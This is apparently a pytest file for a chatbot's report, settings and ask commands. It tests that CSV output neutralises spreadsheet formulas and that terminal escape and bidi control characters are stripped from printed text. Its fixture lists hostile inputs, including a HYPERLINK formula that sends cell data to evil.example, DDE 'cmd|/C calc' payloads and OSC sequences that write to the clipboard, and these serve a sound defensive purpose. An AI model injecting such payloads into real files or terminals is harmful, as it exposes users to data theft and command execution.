"""``citebot report`` over what askers wrote: in its CSV no cell is a formula a spreadsheet runs
(OWASP's CSV-injection rule), its tables reach the terminal without an ESC sequence or a bidi
override, and its JSON keeps every question exactly as asked. ``citebot settings`` and ``ask``
print what admins and the upstream wrote without them too."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path

import pytest

from bot.__main__ import main
from bot.admission import Admission
from bot.answer import Question
from bot.answerlog import AnswerLog
from bot.service import AnswerService
from bot.state import open_state
from bot.upstream.client import AnswerClient
from tests.bot.presenter import PlainPresenter
from tests.bot.test_cli import ask_upstream
from tests.bot.test_service import NOW, Sink
from tests.sim.upstream import UpstreamSim, answer, magisterium_citation

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r-1+1 again",
    " =1+2",
    "＝1+3",
    "\x1b]0;owned\x07What is grace?\x1b[2J",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07What is mercy?\x9b2J",
    "\u202eWhat is hope?\u202c",
)
"""Questions as a hostile asker writes them: formulas (full-width too, after a tab, a carriage
return or a space), an OSC that retitles the window, one that writes the clipboard, a screen
clear, a C1 control sequence introducer, a right-to-left override (ten: the report's top ten
lists them all)."""
RUNS = re.compile("^[ ]*[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20]")
UNSHOWN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


async def ask_all(url: str, client: AnswerClient, upstream: UpstreamSim) -> None:
    upstream.default = answer(["An answer."])
    async with open_state(url) as state:
        service = AnswerService(
            client=client,
            state=state,
            admission=Admission(max_in_flight=2),
            answer_log=AnswerLog(state, mode="questions"),
        )
        for n, text in enumerate(HOSTILE):
            question = Question(
                text=text, platform="discord", user_id=str(n), channel_id="21", server_id="111"
            )
            await service.ask(question, presenter=PlainPresenter(), sink=Sink(), pacer=NOW)


def report(monkeypatch: pytest.MonkeyPatch, url: str, *args: str) -> tuple[int, str]:
    """``citebot report ARGS`` in this process; its exit status and stdout."""
    out = io.StringIO()
    with monkeypatch.context() as patch:
        for name in ("CITEBOT_LANGUAGE", "LC_ALL", "LC_MESSAGES", "LANG", "ANSWER_LOG"):
            patch.delenv(name, raising=False)
        patch.setenv("STATE_URL", url)
        patch.setenv("COLUMNS", "200")
        patch.setattr("sys.stdout", out)
        code = main(["report", *args])
    return code, out.getvalue()


@pytest.fixture
async def url(answer_client: AnswerClient, upstream: UpstreamSim, tmp_path: Path) -> str:
    where = f"sqlite:///{tmp_path / 'state.db'}"
    await ask_all(where, answer_client, upstream)
    return where


async def test_no_csv_cell_is_a_formula_and_none_holds_a_control(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out = await asyncio.to_thread(report, monkeypatch, url, "--format", "csv")

    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if RUNS.match(cell)] == []
    assert [cell for cell in cells if UNSHOWN.search(cell)] == []
    asked = {row[1] for row in rows if row[0] == "top_questions"}
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Open")' in asked
    assert "'+cmd|' /C calc'!A0" in asked
    assert "'=1+2" in asked  # the service strips a question's spaces
    assert "'＝1+3" in asked
    assert "]0;ownedWhat is grace?[2J" in asked


async def test_the_tables_reach_the_terminal_without_anything_it_would_act_on(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out = await asyncio.to_thread(report, monkeypatch, url)

    assert code == 0
    assert UNSHOWN.search(out) is None
    for words in ("What is grace?", "What is mercy?", "What is hope?", "calc"):
        assert words in out


async def test_json_keeps_every_question_exactly_as_asked(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out = await asyncio.to_thread(report, monkeypatch, url, "--format", "json")

    assert code == 0
    asked = {row["question"] for row in json.loads(out)["top_questions"]}
    assert {"\x1b]0;owned\x07What is grace?\x1b[2J", "\u202eWhat is hope?\u202c"} <= asked


def settings(monkeypatch: pytest.MonkeyPatch, url: str, *args: str) -> str:
    out = io.StringIO()
    with monkeypatch.context() as patch:
        patch.setenv("STATE_URL", url)
        patch.setattr("sys.stdout", out)
        assert main(["settings", *args]) == 0
    return out.getvalue()


def test_settings_print_an_admins_words_without_escape_sequences(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'state.db'}"
    written = "Ask a priest.\u202e\u2066"
    changed = settings(monkeypatch, url, "set", "telegram:-100", "disclaimer", written)
    shown = settings(monkeypatch, url, "show")

    for out in (changed, shown):
        assert "Ask a priest." in out
        assert UNSHOWN.search(out) is None


async def test_ask_prints_the_upstreams_words_without_escape_sequences(
    upstream: UpstreamSim,
) -> None:
    upstream.default = answer(
        ["Grace\x1b]0;owned\x07 is a gift[^1].\x1b[2J\u202e"],
        [magisterium_citation(0, "Grace\x1b[8m is favour.", title="Catechism\x9b2J")],
    )
    out = (await ask_upstream(upstream, "What is grace?")).decode()

    assert "is a gift" in out
    assert "Catechism" in out
    assert UNSHOWN.search(out) is None
